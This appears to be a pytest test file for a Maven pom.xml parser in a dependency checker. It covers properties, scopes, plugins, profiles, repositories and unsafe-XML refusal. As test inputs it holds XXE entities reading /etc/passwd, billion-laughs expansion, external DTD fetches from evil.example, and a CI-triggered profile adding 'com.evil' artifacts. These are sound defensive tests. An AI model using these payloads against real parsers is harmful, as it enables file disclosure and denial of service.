"""Maven pom.xml (checker/manifests/maven_pom.py): the real POM of apache/commons-lang (fixtures/maven_pom/SOURCES.md),
properties, scopes, plugins, profiles, repositories, and the XML tricks a safe reader refuses."""

from __future__ import annotations

from pathlib import Path

import pytest

from checker.errors import ManifestError
from checker.manifests import format_for
from checker.manifests.maven_pom import includes, parse
from checker.model import Manifest

FIXTURES = Path(__file__).parent / "fixtures" / "maven_pom"


def pom(body: str, path: str = "pom.xml", files: dict[str, str] | None = None, head: str = "") -> Manifest:
    text = (f'<?xml version="1.0" encoding="UTF-8"?>\n{head}<project xmlns="http://maven.apache.org/POM/4.0.0">\n'
            f"<modelVersion>4.0.0</modelVersion>\n{body}\n</project>\n")
    return parse(text, path, (files or {}).get)


def dependency(group: str, artifact: str, version: str | None = None, extra: str = "") -> str:
    version_xml = f"<version>{version}</version>" if version is not None else ""
    return f"<dependency><groupId>{group}</groupId><artifactId>{artifact}</artifactId>{version_xml}{extra}</dependency>"


def rows(manifest: Manifest) -> list[tuple]:
    return [(d.name, d.version, d.specifier, d.scope) for d in manifest.dependencies]


def test_real_pom() -> None:
    manifest = parse((FIXTURES / "commons-lang.pom.xml").read_text(), "pom.xml", lambda path: None)
    assert manifest.kind == "declared" and manifest.ecosystem == "maven" and manifest.problems == ()
    by_name = {d.name: d for d in manifest.dependencies}
    parent = by_name["org.apache.commons:commons-parent"]
    assert (parent.version, parent.scope, parent.line) == ("104", "build", 22)
    easymock = by_name["org.easymock:easymock"]
    assert (easymock.version, easymock.scope) == ("5.6.0", "dev")
    junit = by_name["org.junit.jupiter:junit-jupiter"]
    assert junit.version is None and junit.specifier == ""  # managed by the parent: none as written
    assert any(d.scope == "build" and d.name.startswith("org.apache.maven.plugins:") for d in manifest.dependencies)


def test_properties_and_project_coordinates() -> None:
    manifest = pom("""<groupId>com.acme</groupId><artifactId>app</artifactId><version>1.4.0</version>
<properties><jackson.version>2.17.1</jackson.version><jackson>${jackson.version}</jackson><guava>33.2.1-jre</guava>
</properties>
<dependencies>
""" + dependency("com.fasterxml.jackson.core", "jackson-databind", "${jackson}")
        + dependency("com.google.guava", "guava", "${guava}")
        + dependency("${project.groupId}", "app-core", "${project.version}")
        + dependency("org.x", "y", "${not.defined}")
        + dependency("org.x", "z", "${env.VERSION}")
        + "</dependencies>")
    assert rows(manifest) == [
        ("com.fasterxml.jackson.core:jackson-databind", "2.17.1", "2.17.1", "prod"),
        ("com.google.guava:guava", "33.2.1-jre", "33.2.1-jre", "prod"),
        ("com.acme:app-core", "1.4.0", "1.4.0", "prod"),
        ("org.x:y", None, "${not.defined}", "prod"),  # never a guess
        ("org.x:z", None, "${env.VERSION}", "prod"),
    ]


def test_inherited_coordinates_and_cycles() -> None:
    manifest = pom("""<parent><groupId>com.acme</groupId><artifactId>parent</artifactId><version>7</version></parent>
<artifactId>child</artifactId>
<properties><a>${b}</a><b>${a}</b><grow>${g1}${g1}</grow><g1>${g2}${g2}</g1><g2>${g3}${g3}</g2><g3>xxxxxxxxxxxx</g3>
</properties>
<dependencies>""" + dependency("${project.groupId}", "sibling", "${project.version}")
        + dependency("org.x", "loop", "${a}") + dependency("org.x", "parent-version", "${project.parent.version}")
        + "</dependencies>")
    assert rows(manifest) == [
        ("com.acme:parent", "7", "7", "build"),
        ("com.acme:sibling", "7", "7", "prod"),
        ("org.x:loop", None, "${a}", "prod"),
        ("org.x:parent-version", "7", "7", "prod"),
    ]


def test_exponential_properties_are_bounded() -> None:
    levels = "".join(f"<p{i}>${{p{i + 1}}}${{p{i + 1}}}${{p{i + 1}}}${{p{i + 1}}}</p{i}>" for i in range(9))
    manifest = pom(f"<properties>{levels}<p9>{'x' * 100}</p9></properties><dependencies>"
                   + dependency("org.x", "y", "${p0}") + "</dependencies>")
    assert manifest.dependencies[0].version is None


def test_scopes_optional_system_and_ranges() -> None:
    manifest = pom("<dependencies>"
                   + dependency("a", "compile", "1")
                   + dependency("a", "test", "1", "<scope>test</scope>")
                   + dependency("a", "provided", "1", "<scope>provided</scope>")
                   + dependency("a", "runtime", "1", "<scope>runtime</scope>")
                   + dependency("a", "optional", "1", "<optional>true</optional>")
                   + dependency("a", "system", "1", "<scope>system</scope><systemPath>${java.home}/lib/x.jar</systemPath>")
                   + dependency("a", "range", "[1.0,2.0)")
                   + dependency("a", "hard", "[1.2]")
                   + dependency("a", "latest", "LATEST")
                   + "</dependencies>")
    assert rows(manifest) == [
        ("a:compile", "1", "1", "prod"), ("a:test", "1", "1", "dev"), ("a:provided", "1", "1", "prod"),
        ("a:runtime", "1", "1", "prod"), ("a:optional", "1", "1", "optional"), ("a:system", "1", "1", "prod"),
        ("a:range", None, "[1.0,2.0)", "prod"), ("a:hard", "1.2", "[1.2]", "prod"), ("a:latest", None, "LATEST", "prod"),
    ]
    system = manifest.dependencies[5]
    assert system.source.kind == "path" and system.source.url == "${java.home}/lib/x.jar"


def test_management_plugins_extensions_reporting_and_profiles() -> None:
    manifest = pom("""<dependencyManagement><dependencies>""" + dependency("org.slf4j", "slf4j-api", "2.0.13")
        + dependency("org.springframework.boot", "spring-boot-dependencies", "3.3.0", "<type>pom</type><scope>import</scope>")
        + """</dependencies></dependencyManagement>
<build>
  <plugins><plugin><artifactId>maven-compiler-plugin</artifactId><version>3.13.0</version>
    <dependencies>""" + dependency("org.ow2.asm", "asm", "9.7") + """</dependencies></plugin>
  <plugin><groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId></plugin></plugins>
  <pluginManagement><plugins><plugin><artifactId>maven-surefire-plugin</artifactId><version>3.2.5</version></plugin>
  </plugins></pluginManagement>
  <extensions><extension><groupId>kr.motd.maven</groupId><artifactId>os-maven-plugin</artifactId><version>1.7.1</version>
  </extension></extensions>
</build>
<reporting><plugins><plugin><artifactId>maven-javadoc-plugin</artifactId><version>3.6.3</version></plugin></plugins>
</reporting>
<profiles><profile><id>evil</id><activation><property><name>env.CI</name></property></activation>
  <dependencies>""" + dependency("com.evil", "payload", "6.6.6") + """</dependencies>
  <build><plugins><plugin><groupId>com.evil</groupId><artifactId>evil-maven-plugin</artifactId><version>1.0</version>
  </plugin></plugins></build>
</profile></profiles>""")
    assert [(d.name, d.version, d.scope, d.constraint) for d in manifest.dependencies] == [
        ("org.slf4j:slf4j-api", "2.0.13", "prod", True),
        ("org.springframework.boot:spring-boot-dependencies", "3.3.0", "prod", False),  # a BOM is fetched
        ("org.apache.maven.plugins:maven-compiler-plugin", "3.13.0", "build", False),
        ("org.ow2.asm:asm", "9.7", "build", False),
        ("org.codehaus.mojo:exec-maven-plugin", None, "build", False),
        ("org.apache.maven.plugins:maven-surefire-plugin", "3.2.5", "build", False),
        ("kr.motd.maven:os-maven-plugin", "1.7.1", "build", False),
        ("org.apache.maven.plugins:maven-javadoc-plugin", "3.6.3", "build", False),
        ("com.evil:payload", "6.6.6", "prod", False),
        ("com.evil:evil-maven-plugin", "1.0", "build", False),
    ]


def test_repositories_are_indexes() -> None:
    manifest = pom("""<properties><repo.url>https://repo.example.com/maven</repo.url></properties>
<repositories><repository><id>central</id><url>https://repo.maven.apache.org/maven2</url></repository>
<repository><id>mine</id><url>${repo.url}</url></repository>
<repository><id>env</id><url>${env.REPO}</url></repository></repositories>
<pluginRepositories><pluginRepository><id>p</id><url>http://plugins.example.com/</url></pluginRepository>
<pluginRepository><id>c</id><url>http://repo1.maven.org/maven2</url></pluginRepository></pluginRepositories>
<profiles><profile><repositories><repository><id>x</id><url>https://x.example/</url></repository></repositories>
</profile></profiles>""")
    assert [(i.kind, i.value) for i in manifest.indexes] == [  # Maven Central over HTTPS is Maven's default
        ("index", "https://repo.example.com/maven"),
        ("index", "${env.REPO}"), ("index", "http://plugins.example.com/"),
        ("index", "http://repo1.maven.org/maven2"),  # central over plain HTTP is a finding
        ("index", "https://x.example/"),
    ]


def test_a_local_parent_is_the_repositorys_own() -> None:
    parent = ('<project><groupId>com.acme</groupId><artifactId>parent</artifactId><version>1.0-SNAPSHOT</version>'
              '</project>')
    body = ("<parent><groupId>com.acme</groupId><artifactId>parent</artifactId><version>1.0-SNAPSHOT</version>"
            "</parent><artifactId>core</artifactId>")
    local = pom(body, path="core/pom.xml", files={"pom.xml": parent})
    assert rows(local) == [] and local.includes == ("pom.xml",)
    assert includes(f"<project>{body}</project>", "core/pom.xml") == [("pom.xml", 1)]
    other = parent.replace("1.0-SNAPSHOT", "2.0")  # the file there is another version: Maven fetches the parent
    assert rows(pom(body, path="core/pom.xml", files={"pom.xml": other})) == [
        ("com.acme:parent", "1.0-SNAPSHOT", "1.0-SNAPSHOT", "build")]
    empty = body.replace("</version></parent>", "</version><relativePath/></parent>")  # Maven: do not look locally
    assert len(pom(empty, path="core/pom.xml", files={"pom.xml": parent}).dependencies) == 1
    outside = body.replace("</version></parent>", "</version><relativePath>../../../x</relativePath></parent>")
    assert includes(f"<project>{outside}</project>", "core/pom.xml") == []


def test_unresolvable_coordinates_are_problems() -> None:
    manifest = pom("<dependencies>" + dependency("${some.group}", "x", "1")
                   + "<dependency><artifactId>nogroup</artifactId></dependency>"
                   + dependency("ok", "ok", "1") + "</dependencies>")
    assert rows(manifest) == [("ok:ok", "1", "1", "prod")]
    assert len(manifest.problems) == 2 and all(p.line for p in manifest.problems)


def test_names_keep_their_case() -> None:
    manifest = pom("<dependencies>" + dependency("Org.Example", "Thing", "1") + "</dependencies>")
    assert manifest.dependencies[0].name == "Org.Example:Thing"


@pytest.mark.parametrize("head", [
    '<!DOCTYPE project [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
    '<!DOCTYPE project [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>\n',
    '<!DOCTYPE project SYSTEM "http://evil.example/dtd">\n',
    '<!DOCTYPE project [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>\n',
])
def test_document_types_are_refused(head: str) -> None:
    with pytest.raises(ManifestError) as error:
        pom("<dependencies>" + dependency("a", "b", "1") + "</dependencies>", head=head)
    assert "DOCTYPE" in error.value.message and error.value.line == 2


@pytest.mark.parametrize("text,line", [
    ("<project><dependencies></project>", 1), ("", None), ("<notaproject/>", 1), ("<project>&undefined;</project>", 1),
    ("<project>\n<version>1</version>\n<x>", 3),
])
def test_bad_xml_names_the_line(text: str, line: int | None) -> None:
    with pytest.raises(ManifestError) as error:
        parse(text, "pom.xml", lambda path: None)
    assert error.value.line == line


def test_file_name() -> None:
    assert format_for("pom.xml") is not None and format_for("a/b/pom.xml").name == "maven-pom"
    assert format_for("pom.xml.bak") is None


def test_a_huge_property_many_times_is_bounded() -> None:
    manifest = pom(f"<properties><big>{'x' * 100_000}</big></properties><dependencies>"
                   + dependency("org.x", "y", "${big}" * 10_000) + "</dependencies>")
    assert manifest.dependencies[0].version is None
